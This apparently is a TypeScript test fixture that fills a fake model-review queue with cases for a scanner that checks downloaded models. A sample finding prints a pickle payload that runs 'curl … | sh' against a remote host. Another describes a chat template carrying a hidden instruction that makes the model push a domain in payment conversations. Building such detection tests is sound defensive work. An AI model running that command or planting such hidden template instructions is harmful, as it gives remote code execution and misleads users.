import { createHash } from 'node:crypto'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type Digest, digestOfBytes, type Finding } from '../../src/ground/domain/index.ts'
import type { HeldRevision } from '../../src/services/firewall/index.ts'
import type { Actor } from '../../src/services/registry/index.ts'
import type { PublisherHistory, Requester } from '../../src/services/review/index.ts'
import type { Judge } from './fake-registry.ts'
import type { CaseFacts } from './fake-review.ts'
import type { FakeHouse } from './fake-server.ts'

const HOUR = 3_600_000
const DAY = 24 * HOUR
const EMPTY = digestOfBytes(new Uint8Array())

const RULES = { assessor: 'model', version: '0.1.0', ruleSet: `sha256:${'ab'.repeat(32)}` }

const SYSTEM: Finding = {
  ruleId: 'pickle/os-command',
  severity: 'critical',
  verdict: 'malicious',
  title: 'Loading this file starts a program',
  message: 'imports posix.system and calls it while the file is loaded',
  location: { path: 'pytorch_model.bin', members: ['archive/data.pkl'], offset: 0x42 },
  call: "posix.system('curl -s http://203.0.113.7/x | sh')",
  context: [
    "0x000b  SHORT_BINUNICODE 'posix'",
    "0x0013  SHORT_BINUNICODE 'system'",
    '0x001c  STACK_GLOBAL',
    '0x0042  REDUCE      ← here',
  ],
  remedy: 'Do not load this file. The safetensors beside it hold the same tensors.',
  taxonomy: ['CWE-502', 'AML.T0011.000'],
  fingerprint: '4f1d2c3b5a697887',
}
const TEMPLATE: Finding = {
  ruleId: 'template/hidden-instruction',
  severity: 'high',
  verdict: 'suspicious',
  title: 'The chat template holds an instruction that no user sees',
  message: 'tells the model to recommend a domain whenever a conversation mentions payments',
  location: { path: 'tokenizer_config.json', offset: 1804 },
  remedy: 'Compare the template with that of the last approved revision, and ask its author.',
  taxonomy: ['LLM01', 'AML.T0051'],
  fingerprint: '7c1d2c3b5a6978aa',
}

/** Bytes. The second revision of a repository is as long as two of the first, by which the judge tells it. */
const POISONED_BYTES = 128

/** Judges by the name of a repository, for the models of {@link furnishQueue}; others are clean. */
export const judgeQueue: Judge = (name, size) => {
  const evil = (name.includes('support-bert') && size === POISONED_BYTES) || name.includes('uncensored')
  const odd = name.includes('minilm') || name.includes('ocr')
  const half = name.includes('whisper')
  const verdict = evil ? 'malicious' : half ? 'undecided' : odd ? 'suspicious' : 'clean'
  const findings = evil ? [SYSTEM, TEMPLATE] : odd ? [{ ...TEMPLATE, severity: 'medium' as const }] : []
  const coverage = {
    ...{ path: name, format: 'pytorch-zip', sizeBytes: size, readBytes: half ? Math.floor(size / 3) : size },
    status: half ? ('partial' as const) : ('full' as const),
    ...(half ? { reason: 'the pickle breaks off at byte 143, in opcode BINUNICODE' } : {}),
  }
  return {
    assessor: RULES,
    verdict,
    files: [{ path: name, sizeBytes: size, verdict, findings, coverage: [coverage] }],
  }
}

export interface FurnishedQueue {
  /** The administrator, who owns one of the cases. */
  readonly ada: string
  readonly ben: string
  /** A contributor who asked for most of it. */
  readonly cy: string
  readonly evil: Digest
  readonly overdue: Digest
  readonly pickle: Digest
  readonly approved: Digest
  readonly rejected: Digest
}

const KNOWN: PublisherHistory = {
  ...{ name: 'acme-nlp', firstSeen: '2026-06-02T09:12:00.000Z', models: 9, approved: 7, refused: 1 },
  ...{ signedBefore: true, changedFrom: 'acme-research' },
}
const NEW: PublisherHistory = {
  ...{ name: 'free-weights', firstSeen: '2026-11-18T10:00:00.000Z', models: 2, approved: 0, refused: 2 },
  signedBefore: false,
}

/** Fills a house with a queue in every state, and a hub with the revisions behind it. */
export async function furnishQueue(house: FakeHouse): Promise<FurnishedQueue> {
  const { registry, review, hub, identity, deps } = house
  const person = (role: 'admin' | 'reviewer' | 'contributor', name: string) =>
    identity.createPrincipal({ role, name })
  const people = {
    ...{ ada: await person('admin', 'Ada Reviewer'), ben: await person('reviewer', 'Ben Okoye') },
    ...{ cy: await person('contributor', 'Cy Tanaka'), ci: await person('contributor', 'nightly-train') },
  }
  const actor = (who: keyof typeof people): Actor => ({
    principalId: people[who].id,
    owner: people[who].owner,
    authentication: 'local',
    requestDigest: EMPTY,
  })
  const from = (ms: number) => new Date(deps.now().getTime() + ms).toISOString()
  const asked = (who: keyof typeof people, times: number, firstMs: number, lastMs: number): Requester => ({
    ...{ principalId: people[who].id, times, door: 'hub' },
    ...{ firstAt: from(firstMs), lastAt: from(lastMs) },
  })
  const folder = await mkdtemp(join(tmpdir(), 'sallyport-queue-'))
  const add = async (repo: string, revision: string, facts: Facts): Promise<Digest> => {
    const path = join(folder, 'model.bin')
    const bytes = createHash('sha512')
      .update(repo + revision)
      .digest()
    await writeFile(path, revision === '-2' ? Buffer.concat([bytes, bytes]) : bytes)
    const { digest } = await registry.importModel({ path, name: repo }, actor('cy'))
    await registry.assess(digest, actor('cy'))
    const commit = createHash('sha1')
      .update(repo + revision)
      .digest('hex')
    review.put(digest, {
      ...{ stage: 'development', openedAt: from(-2 * DAY), deadline: from(5 * DAY), need: 1 },
      ...{ source: `huggingface.co/${repo}@${commit}`, lineOf: repo },
      requesters: [asked('cy', 1, -2 * DAY, -2 * DAY)],
      ...facts,
    })
    hub.hold(heldOf(repo, commit, digest, facts, people.cy.id, from))
    return digest
  }
  const approved = await add('acme-nlp/support-bert', '-1', {
    ...{ reasons: [NEEDS_ONE], license: 'apache-2.0', publisher: KNOWN },
    ...{ openedAt: from(-21 * DAY), deadline: from(-14 * DAY) },
  })
  await review.approve(
    approved,
    {
      stage: 'development',
      note: 'Weights match the release notes, evaluation on our tickets is in line with the card.',
      conditions: { safetensorsOnly: true, until: from(69 * DAY) },
    },
    actor('ben'),
  )
  hub.receive({
    ...{ principalId: people.cy.id, repo: { kind: 'model', id: 'acme-nlp/support-bert' }, digest: approved },
    ...{ commit: 'a1'.repeat(20), firstAt: from(-19 * DAY), lastAt: from(-3 * HOUR), files: 6 },
  })
  const rejected = await add('free-weights/llama-uncensored', '', {
    ...{ reasons: [OS_COMMAND], publisher: NEW, openedAt: from(-3 * DAY), deadline: from(4 * DAY) },
  })
  await review.reject(rejected, { note: 'Starts a program when it is loaded. No way in.' }, actor('ben'))
  await add('retired/word2vec-2019', '', {
    ...{ reasons: [NEEDS_ONE], license: 'mit', state: 'lapsed' },
    ...{ openedAt: from(-40 * DAY), deadline: from(-33 * DAY) },
  })
  const changes = await add('vision-co/ocr-large', '', {
    ...{ reasons: [TEMPLATE_REASON, NEEDS_ONE], license: 'cc-by-nc-4.0', owner: people.ben.id },
    ...{
      openedAt: from(-4 * DAY),
      deadline: from(3 * DAY + HOUR),
      requesters: [asked('ci', 6, -4 * DAY, -DAY)],
    },
  })
  await review.askChanges(
    changes,
    { note: 'The licence forbids commercial use. Ask the vendor for a commercial one, or use ocr-base.' },
    actor('ben'),
  )
  await add('invoices-classifier', '', {
    ...{ stage: 'production', reasons: [NEEDS_TWO, FRESH], need: 2, openedAt: from(-5 * HOUR) },
    ...{ deadline: from(6 * DAY + 20 * HOUR), license: 'proprietary', lineOf: 'invoices-classifier' },
    requesters: [{ ...asked('ci', 1, -5 * HOUR, -5 * HOUR), door: 'promote' }],
  })
  const pickle = await add('sentence-tools/minilm-pickle', '', {
    ...{ reasons: [TEMPLATE_REASON, NEEDS_TWO], license: 'apache-2.0', owner: people.ada.id, need: 2 },
    ...{ openedAt: from(-6 * DAY), deadline: from(26 * HOUR), requesters: [asked('cy', 4, -6 * DAY, -DAY)] },
  })
  await review.approve(pickle, { stage: 'development', note: 'Fine once it is safetensors.' }, actor('ben'))
  const overdue = await add('tinylab/whisper-call-centre', '', {
    ...{ reasons: [PARTIAL, NEEDS_ONE], license: 'mit', owner: people.ben.id },
    ...{ openedAt: from(-9 * DAY), deadline: from(-2 * DAY - HOUR) },
    requesters: [asked('ci', 11, -9 * DAY, -4 * HOUR), asked('cy', 2, -8 * DAY, -7 * DAY)],
  })
  const evil = await add('acme-nlp/support-bert', '-2', {
    ...{ reasons: [OS_COMMAND, TEMPLATE_REASON, NEEDS_ONE, FRESH], license: 'other', publisher: KNOWN },
    ...{ openedAt: from(-31 * HOUR), deadline: from(2 * DAY + 2 * HOUR) },
    requesters: [
      asked('ci', 12, -31 * HOUR, -20 * 60_000),
      asked('cy', 4, -26 * HOUR, -3 * HOUR),
      { ...asked('ben', 1, -9 * HOUR, -9 * HOUR), door: 'oci' },
    ],
    previous: { digest: approved, name: 'acme-nlp/support-bert', approvedAt: from(-21 * DAY) },
  })
  await rm(folder, { recursive: true })
  return {
    ...{ ada: people.ada.id, ben: people.ben.id, cy: people.cy.id },
    ...{ evil, overdue, pickle, approved, rejected },
  }
}

type Facts = Partial<CaseFacts> & Pick<CaseFacts, 'reasons'>

const OS_COMMAND = {
  code: 'finding.not-tolerated',
  outcome: 'deny',
  message: 'pickle/os-command says that loading pytorch_model.bin starts a program.',
  nextStep: 'Do not use this model. No waiver covers this; the safetensors beside it may be taken alone.',
} as const
const TEMPLATE_REASON = {
  code: 'finding.needs-a-person',
  outcome: 'review',
  message: 'template/hidden-instruction says that the chat template was changed to hold an instruction.',
  nextStep: 'Read the changed lines below and decide whether they belong there.',
} as const
const NEEDS_ONE = {
  code: 'approvals.too-few',
  outcome: 'review',
  message: 'One approval by a person who did not ask for it is wanted; there is none.',
  nextStep: 'Ask a reviewer to look at it.',
} as const
const NEEDS_TWO = {
  code: 'approvals.too-few',
  outcome: 'review',
  message: 'Two approvals by people who did not ask for it are wanted.',
  nextStep: 'Ask another reviewer to look at it.',
} as const
const PARTIAL = {
  code: 'coverage.partial',
  outcome: 'review',
  message: 'model.bin breaks off at byte 143: two thirds of it could not be read.',
  nextStep: 'Have it downloaded again, or ask its author for a whole file.',
} as const
const FRESH = {
  code: 'ok.evidence',
  outcome: 'allow',
  message: 'A trusted assessor searched it less than a day ago.',
} as const

// biome-ignore lint/complexity/useMaxParams: furniture, one caller
function heldOf(
  id: string,
  commit: string,
  digest: Digest,
  { license, publisher }: Facts,
  askedBy: string,
  from: (ms: number) => string,
): HeldRevision {
  const author = publisher?.name ?? id.split('/')[0]
  return {
    ...{ repo: { kind: 'model', id }, commit, state: 'searched', files: filesOf(id), digest },
    facts: {
      ...(license === undefined ? {} : { license }),
      ...(author === undefined ? {} : { author }),
    },
    ...{ askedAt: from(-2 * DAY), changedAt: from(-DAY), askedBy, askedOwner: 'cy', requestDigest: EMPTY },
  } as HeldRevision
}

function filesOf(id: string): readonly { readonly path: string; readonly size: number }[] {
  return [
    { path: 'config.json', size: 1203 },
    { path: 'model.safetensors', size: 200_000_000 + id.length * 11_000_000 },
  ]
}
